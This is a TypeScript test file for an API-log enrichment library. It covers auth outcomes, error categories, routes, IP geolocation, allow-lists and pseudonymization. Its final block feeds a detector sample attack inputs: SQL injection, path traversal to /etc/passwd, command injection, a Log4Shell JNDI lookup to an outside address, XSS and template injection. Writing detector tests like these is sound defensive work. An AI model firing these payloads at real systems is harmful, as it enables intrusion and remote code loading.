import { attackSignatures } from '../../../lib/core/enrich/attack-signatures.js';
import { Enricher } from '../../../lib/core/enrich/enrich.js';
import { PLACES_HEADER, placesFromCsv } from '../../../lib/core/enrich/places.js';
import { Pseudonyms, pseudonymize } from '../../../lib/core/enrich/pseudonyms.js';
import { RouteFinder } from '../../../lib/core/enrich/routes.js';
import { newEntry } from '../../../lib/core/entry/entry.js';
import type { Entry } from '../../../lib/core/entry/fields.js';
import { parseSettings } from '../../../lib/core/settings.js';

const pseudonyms = new Pseudonyms('a key of the test', 1);

function enriched(fields: Partial<Entry>, settings: object = {}, places?: string): Entry {
  const entry = Object.assign(newEntry(), { '@timestamp': Date.UTC(2026, 2, 10), ...fields });
  new Enricher({
    settings: parseSettings(settings),
    pseudonyms,
    isBot: () => false,
    places: places === undefined ? undefined : placesFromCsv(places),
  }).enrich(entry);
  return entry;
}

describe('authentication and authorization', () => {
  test.each<[string, Partial<Entry>, string, string]>([
    ['401 is a failure', { 'http.response.status_code': 401 }, 'failure', 'none'],
    [
      '403 with an invalid key is a failure',
      { 'http.response.status_code': 403, 'error.type': 'INVALID_API_KEY' },
      'failure',
      'none',
    ],
    [
      '403 with an expired token is a failure',
      { 'http.response.status_code': 403, 'error.type': 'EXPIRED_TOKEN' },
      'failure',
      'none',
    ],
    [
      'a missing token on a route is a failure',
      { 'http.response.status_code': 403, 'error.type': 'MISSING_AUTHENTICATION_TOKEN', 'api.route': '/orders' },
      'failure',
      'none',
    ],
    [
      'a missing token without a route is a missing path',
      { 'http.response.status_code': 403, 'error.type': 'MISSING_AUTHENTICATION_TOKEN', 'url.path': '/wp/12345' },
      'none',
      'none',
    ],
    [
      'ACCESS_DENIED is a denial',
      { 'http.response.status_code': 403, 'error.type': 'ACCESS_DENIED' },
      'none',
      'denied',
    ],
    ['a 403 with a key id is a denial', { 'http.response.status_code': 403, 'api_key.id': 'k1' }, 'success', 'denied'],
    [
      'a blocked request is neither',
      { 'http.response.status_code': 403, 'error.type': 'WAF_FILTERED', 'api_key.id': 'k1' },
      'none',
      'none',
    ],
    ['429 is neither', { 'http.response.status_code': 429, 'api_key.id': 'k1' }, 'none', 'none'],
    [
      'a key and no failure is a success',
      { 'http.response.status_code': 200, 'api_key.id': 'k1' },
      'success',
      'allowed',
    ],
    ['nobody is none', { 'http.response.status_code': 200 }, 'none', 'none'],
    [
      'an explicit result wins',
      { 'http.response.status_code': 200, 'api.authentication.result': 'failure' },
      'failure',
      'none',
    ],
  ])('%s', (_, fields, authentication, authorization) => {
    expect(enriched(fields)).toMatchObject({
      'api.authentication.result': authentication,
      'api.authorization.result': authorization,
    });
  });
});

test.each([
  [401, 'authentication', 'high'],
  [403, 'authentication', 'high'],
  [429, 'rate_limit', 'medium'],
  [400, 'validation', 'low'],
  [422, 'validation', 'low'],
  [404, 'client', 'medium'],
  [500, 'server', 'critical'],
  [200, undefined, undefined],
])('status %d is an error of category %s with priority %s', (status, category, priority) => {
  expect(enriched({ 'http.response.status_code': status })).toMatchObject({
    'api.error.category': category,
    'api.error.priority': priority,
  });
});

test.each<[Partial<Entry>, string | undefined]>([
  [{ 'http.response.status_code': 429, 'error.type': 'THROTTLED' }, 'RATE_LIMIT_EXCEEDED'],
  [{ 'http.response.status_code': 400, 'error.type': 'BAD_REQUEST_BODY' }, 'MALFORMED_REQUEST'],
  [{ 'http.response.status_code': 400 }, undefined],
  [
    { 'http.response.status_code': 403, 'waf.action': 'BLOCK', 'waf.rule.id': 'SQLi_QUERYARGUMENTS' },
    'SQL_INJECTION_ATTEMPT',
  ],
  [{ 'http.response.status_code': 403, 'waf.action': 'BLOCK', 'waf.rule.id': 'ip-blocklist' }, 'IP_BLOCKLISTED'],
  [{ 'http.response.status_code': 403, 'api_key.id': 'dead' }, 'API_KEY_REVOKED'],
  [{ 'http.response.status_code': 200 }, undefined],
])('%j is blocked for %s', (fields, reason) => {
  expect(enriched(fields, { keys: [{ id: 'dead', status: 'revoked' }] })['api.block.reason']).toBe(reason);
});

test.each<[Partial<Entry>, string]>([
  [{ 'url.path': '/keys/1', 'http.response.status_code': 429 }, 'key_lifecycle'],
  [{ 'url.path': '/admin/x', 'http.response.status_code': 429 }, 'blocked_call'],
  [{ 'url.path': '/prod/admin/x', 'api.stage': 'prod', 'http.response.status_code': 500 }, 'admin_activity'],
  [{ 'url.path': '/a', 'http.response.status_code': 404 }, 'failed_call'],
  [{ 'url.path': '/a', 'http.response.status_code': 200 }, 'api_call'],
])('%j is %s', (fields, category) => {
  expect(enriched(fields, { adminRoutes: ['/admin/*'], keyManagementRoutes: ['/keys*'] })['event.category']).toBe(
    category,
  );
});

describe('routes', () => {
  test('a method before a route of the settings says nothing about its template', () => {
    const routes = new RouteFinder(['GET /shops/{name}']);
    expect(routes.find('/prod/shops/north', undefined, 'prod')).toEqual({
      template: '/shops/{name}',
      slots: ['north'],
    });
  });

  const finder = new RouteFinder(['/orders/{id}', '/users/{id}/profile', '/files/*']);

  test.each([
    ['/orders/7', undefined, undefined, '/orders/{id}', ['7']],
    ['/prod/orders/7', undefined, 'prod', '/orders/{id}', ['7']],
    ['/users/u-1/profile', undefined, undefined, '/users/{id}/profile', ['u-1']],
    ['/files/a/b/c', undefined, undefined, '/files/*', []],
    [
      '/carts/123/items/01ARZ3NDEKTSV4RRFFQ69G5FAV',
      undefined,
      undefined,
      '/carts/{id}/items/{id}',
      ['123', '01ARZ3NDEKTSV4RRFFQ69G5FAV'],
    ],
    [
      '/things/6fa459ea-ee8a-3ca4-894e-db77e160355e',
      '/{proxy+}',
      undefined,
      '/things/{id}',
      ['6fa459ea-ee8a-3ca4-894e-db77e160355e'],
    ],
    ['/invoices/a/b', '/invoices/{x}/{y}', undefined, '/invoices/{x}/{y}', ['a', 'b']],
    ['/invoices/a', 'GET /invoices/{x}', undefined, 'GET /invoices/{x}', ['a']],
    ['/plain', undefined, undefined, undefined, undefined],
  ])('%s with the route %s of stage %s is %s', (path, given, stage, template, slots) => {
    expect(finder.find(path, given, stage)).toEqual(template === undefined ? undefined : { template, slots });
  });
});

describe('places', () => {
  const csv = `${PLACES_HEADER}\n203.0.0.0/16,DE,52.5,13.4,20,64500,"Example, Inc.",false\n203.0.113.0/24,FR,48.9,2.4,,64501,Other,true\n2001:db8::/32,BR,-23.5,-46.6,5,64502,Third,\n`;

  test('the narrowest network wins, both families, and a missing accuracy stays missing', () => {
    expect(enriched({ 'source.ip': '203.0.112.1' }, {}, csv)).toMatchObject({
      'source.geo.country_iso_code': 'DE',
      'source.as.organization.name': 'Example, Inc.',
      'source.geo.accuracy_km': 20,
    });
    expect(enriched({ 'source.ip': '203.0.113.1' }, {}, csv)).toMatchObject({
      'source.geo.country_iso_code': 'FR',
      'source.hosting': true,
      'source.geo.accuracy_km': undefined,
    });
    expect(enriched({ 'source.ip': '2001:db8::5' }, {}, csv)).toMatchObject({
      'source.geo.location': { lat: -23.5, lon: -46.6 },
    });
  });

  test('the input’s place stays without a geo file and gives way to one', () => {
    expect(
      enriched({ 'source.ip': '192.0.2.1', 'source.geo.country_iso_code': 'JP' })['source.geo.country_iso_code'],
    ).toBe('JP');
    expect(
      enriched({ 'source.ip': '192.0.2.1', 'source.geo.country_iso_code': 'JP' }, {}, csv)[
        'source.geo.country_iso_code'
      ],
    ).toBeUndefined();
  });

  test('fails on another header and on a network that is none', () => {
    expect(() => placesFromCsv('a,b\n')).toThrow('line 1');
    expect(() => placesFromCsv(`${PLACES_HEADER}\nnowhere,DE,,,,,,\n`)).toThrow('line 2');
    for (const [row, message] of [
      ['192.0.2.0/24,DE,abc,2,,,,', 'line 2: the latitude must be a number from -90 to 90, or nothing'],
      ['192.0.2.0/24,DE,1,181,,,,', 'line 2: the longitude must be'],
      ['192.0.2.0/24,DE,1,2,far,,,', 'line 2: the accuracy must be'],
      ['192.0.2.0/24,DE,1,2,3,AS1,,', 'line 2: the AS number must be'],
      ['192.0.2.0/24,DE,1,2,3,4,x,maybe', 'line 2: hosting must be true or false'],
      ['192.0.2.0/24,Germany,1,2,3,4,x,true', 'line 2: the country must be two letters'],
    ])
      expect(() => placesFromCsv(`${PLACES_HEADER}\n${row}\n`)).toThrow(message);
  });

  test('the narrowest network wins, however many others lie beside it', () => {
    const narrow = Array.from({ length: 200 }, (_, i) => `10.0.${i}.0/24,FR,,,,,,`);
    const place = placesFromCsv([PLACES_HEADER, ...narrow, '10.0.0.0/8,DE,,,,,,', '10.0.7.7/32,BE,,,,,,'].join('\n'));
    expect(['10.0.7.6', '10.0.7.7', '10.0.7.8', '10.0.199.9', '10.0.200.0', '10.9.9.9', '11.0.0.0'].map(place)).toEqual(
      ['FR', 'BE', 'FR', 'FR', 'DE', 'DE', undefined].map((country) => country && { country }),
    );
  });
});

test('an allow-listed address carries the detectors until the listing expires', () => {
  const allow = [
    { cidr: '203.0.113.0/24', detectors: ['scraping'], reason: 'partner', expires: '2026-03-11T00:00:00Z' },
  ];
  expect(enriched({ 'source.ip': '203.0.113.9' }, { allow })['source.allow']).toEqual(['scraping']);
  expect(
    enriched({ 'source.ip': '203.0.113.9', '@timestamp': Date.UTC(2026, 2, 11) }, { allow })['source.allow'],
  ).toBeUndefined();
});

test('a presented key becomes a pseudonym and a hint, a given id stays', () => {
  const value = ['presented', 'key', 'of', 'a', 'test', '0123456789'].join('');
  const entry = enriched({ 'api_key.value': value });
  expect(entry['api_key.id']).toMatch(/^key1_[\w-]{22}$/);
  expect(entry['api_key.value']).toBeUndefined();
  expect(entry['api_key.hint']).toMatch(/\*\*\*\*6789$/);
  expect(enriched({ 'api_key.value': value, 'api_key.id': 'k1' })['api_key.id']).toBe('k1');
});

test('an address is kept, replaced by a token, or cut, and detectors still tell callers apart', () => {
  const of = (ip: string, policy: 'keep' | 'pseudonymize' | 'truncate') => {
    const entry = enriched({ 'source.ip': ip });
    pseudonymize(entry, { 'source.ip': policy }, pseudonyms);
    return [entry['source.ip'], entry['source.client']];
  };
  expect(of('203.0.113.9', 'keep')).toEqual(['203.0.113.9', '203.0.113.9']);
  expect(of('203.0.113.9', 'pseudonymize')).toEqual([undefined, expect.stringMatching(/^ip1_/)]);
  expect(of('203.0.113.9', 'truncate')[0]).toBe('203.0.113.0');
  expect(of('2001:db8:1:2:3::4', 'truncate')[0]).toBe('2001:db8:1::');
  expect(of('203.0.113.9', 'truncate')[1]).not.toBe(of('203.0.113.8', 'truncate')[1]);
  expect(of('2001:db8:1:2::1', 'pseudonymize')[1]).toBe(of('2001:db8:1:2::2', 'pseudonymize')[1]);
});

describe('attack signatures', () => {
  test.each([
    ['sql_injection', "/items?id=1' OR '1'='1"],
    ['sql_injection', '1%20UNION%20ALL%20SELECT%20password'],
    ['sql_injection', 'id=1%2527%2520OR%25201%253D1'],
    ['path_traversal', '/files/../../etc/passwd'],
    ['path_traversal', '/files/%252e%252e%252fetc%252fpasswd'],
    ['command_injection', '/ping?host=1;cat /etc/hosts'],
    ['command_injection', 'a=$(whoami)'],
    ['log4shell', `${'$'}{jndi:ldap://198.51.100.1/a}`],
    ['log4shell', '%24%7Bjndi%3Adns%3A%2F%2Fx%7D'],
    ['cross_site_scripting', '<script>alert(1)</script>'],
    ['cross_site_scripting', '%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E'],
    ['template_injection', '{{7*7}}'],
  ])('%s in %s', (id, text) => {
    expect(attackSignatures([undefined, text])).toContain(id);
  });

  test.each([
    '/blog/select-the-union',
    '/search?q=rock+and+roll',
    "q=it's+fine",
    'Mozilla/5.0 (X11; U; id) Gecko',
    '/a/b..c/d',
    'text/html;charset=utf-8',
    '/orders/{id}',
    'price=$100',
    'a=b&c=d;e=f',
    'O’Reilly or 1 book',
    '/docs/javascript-intro',
  ])('nothing in %s', (text) => {
    expect(attackSignatures([text])).toBeUndefined();
  });
});
